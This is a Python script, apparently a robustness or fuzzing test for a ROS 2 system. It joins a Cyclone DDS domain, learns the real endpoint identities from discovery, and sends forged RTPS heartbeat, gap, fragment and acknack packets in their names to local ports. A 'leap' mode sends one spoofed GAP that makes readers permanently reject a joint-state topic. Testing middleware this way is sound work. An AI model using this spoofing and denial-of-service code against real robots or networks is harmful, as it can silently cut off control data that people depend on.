"""Floods the UDP ports of a node with malformed RTPS, as somebody can who has joined the domain.

It joins, learns from discovery who writes and reads what, and then sends HEARTBEAT, GAP, DATA_FRAG and ACKNACK in the
names of those endpoints with numbers that are lies, and random bytes. Nothing but the standard library sends.

Usage: flood.py WHAT SECONDS SEED PORT..., where WHAT is random, heartbeat, gap, data_frag, acknack or all; or leap, which is
a single GAP to each port that makes a reader refuse everything that the writers of /measured_js will ever send
"""

import os
import random
import socket
import struct
import sys
import time

from cyclonedds.builtin import BuiltinDataReader, BuiltinTopicDcpsPublication, BuiltinTopicDcpsSubscription
from cyclonedds.domain import DomainParticipant

# Entities of the discovery itself, which every participant has.
WRITERS = [b"\x00\x00\x03\xc2", b"\x00\x00\x04\xc2", b"\x00\x02\x00\xc2"]
READERS = [b"\x00\x00\x03\xc7", b"\x00\x00\x04\xc7", b"\x00\x02\x00\xc7"]


def discovered(participant, topic, seconds=3.0):
    reader = BuiltinDataReader(participant, topic)
    end, found = time.monotonic() + seconds, {}
    while time.monotonic() < end:
        for sample in reader.take(N=1000):
            if sample.sample_info.valid_data:
                found[sample.key.bytes] = sample.topic_name
        time.sleep(0.02)
    return found


def header(prefix):
    return b"RTPS\x02\x04\x01\x10" + prefix


def submessage(kind, body, flags=1):
    return struct.pack("<BBH", kind, flags, len(body)) + body


def number(value):
    return struct.pack("<iI", value >> 32, value & 0xFFFFFFFF)


class Liar:
    def __init__(self, rng, writers, readers):
        self.rng, self.writers, self.readers = rng, writers, readers

    def lie(self):
        rng = self.rng
        return rng.choice([
            0, 1, rng.randrange(1, 100), rng.randrange(1, 1 << 16), rng.randrange(1, 1 << 32),
            rng.randrange(1, 1 << 48), (1 << 62) + rng.randrange(1 << 61), -rng.randrange(1, 1 << 40),
        ])

    def names(self):
        """A writer, and a reader of the same topic or every reader."""
        guid = self.rng.choice(list(self.writers))
        same = [r for r, topic in self.readers.items() if topic == self.writers[guid]]
        reader = self.rng.choice(same)[12:] if same and self.rng.random() < 0.5 else b"\0\0\0\0"
        if self.rng.random() < 0.3:
            i = self.rng.randrange(len(WRITERS))
            return guid[:12], WRITERS[i], READERS[i]
        return guid[:12], guid[12:], reader

    def heartbeat(self):
        prefix, writer, reader = self.names()
        first, last = self.lie(), self.lie()
        count = self.rng.randrange(1, 1 << 31)
        return header(prefix) + submessage(0x07, reader + writer + number(first) + number(last) + struct.pack("<i", count))

    def gap(self):
        prefix, writer, reader = self.names()
        bits = self.rng.choice([0, 1, 32, 256])
        bitmap = self.rng.randbytes(bits // 8 + (4 if bits % 32 else 0))[: 4 * ((bits + 31) // 32)]
        bitmap += b"\0" * (4 * ((bits + 31) // 32) - len(bitmap))
        body = reader + writer + number(self.lie()) + number(self.lie()) + struct.pack("<I", bits) + bitmap
        return header(prefix) + submessage(0x08, body)

    def data_frag(self):
        prefix, writer, reader = self.names()
        size = self.rng.choice([1, 1 << 16, 1 << 28, (1 << 32) - 1, self.rng.randrange(1 << 32)])
        fragment = self.rng.choice([0, 1, 256, 1024, 65535])
        body = struct.pack("<HH", 0, 28) + reader + writer + number(abs(self.lie()))
        body += struct.pack("<IHHI", self.rng.randrange(1, 1 << 16), self.rng.choice([0, 1, 5]), fragment, size)
        return header(prefix) + submessage(0x16, body + self.rng.randbytes(min(fragment, 256)))

    def acknack(self):
        guid = self.rng.choice(list(self.readers))
        same = [w for w, topic in self.writers.items() if topic == self.readers[guid]]
        writer = self.rng.choice(same)[12:] if same else b"\0\0\0\0"
        bits = self.rng.choice([0, 32, 256])
        body = guid[12:] + writer + number(self.lie()) + struct.pack("<I", bits) + self.rng.randbytes(bits // 8)
        return header(guid[:12]) + submessage(0x06, body + struct.pack("<i", self.rng.randrange(1, 1 << 31)))

    def random(self):
        noise = self.rng.randbytes(self.rng.randrange(1, 600))
        return noise if self.rng.random() < 0.5 else header(self.rng.choice(list(self.writers))[:12]) + noise


def main():
    what, seconds, seed, ports = sys.argv[1], float(sys.argv[2]), int(sys.argv[3]), [int(p) for p in sys.argv[4:]]
    participant = DomainParticipant(int(os.environ["ROS_DOMAIN_ID"]))
    liar = Liar(
        random.Random(seed),
        discovered(participant, BuiltinTopicDcpsPublication),
        discovered(participant, BuiltinTopicDcpsSubscription),
    )
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    if what == "leap":
        lies = [
            header(guid[:12]) + submessage(0x08, b"\0\0\0\0" + guid[12:] + number(1) + number(1 << 62) + struct.pack("<I", 0))
            for guid, topic in liar.writers.items() if topic == "rt/measured_js"
        ]
        for port in ports:
            for lie in lies:
                out.sendto(lie, ("127.0.0.1", port))
        print(len(lies) * len(ports))
        return
    kinds = ["random", "heartbeat", "gap", "data_frag", "acknack"] if what == "all" else [what]
    end, sent = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        for _ in range(100):
            packet = getattr(liar, liar.rng.choice(kinds))()
            out.sendto(packet, ("127.0.0.1", liar.rng.choice(ports)))
            sent += 1
        # Some thousands per second: the peers on the same machine must get their share of it.
        time.sleep(0.01)
    print(sent, len(liar.writers), len(liar.readers))


main()
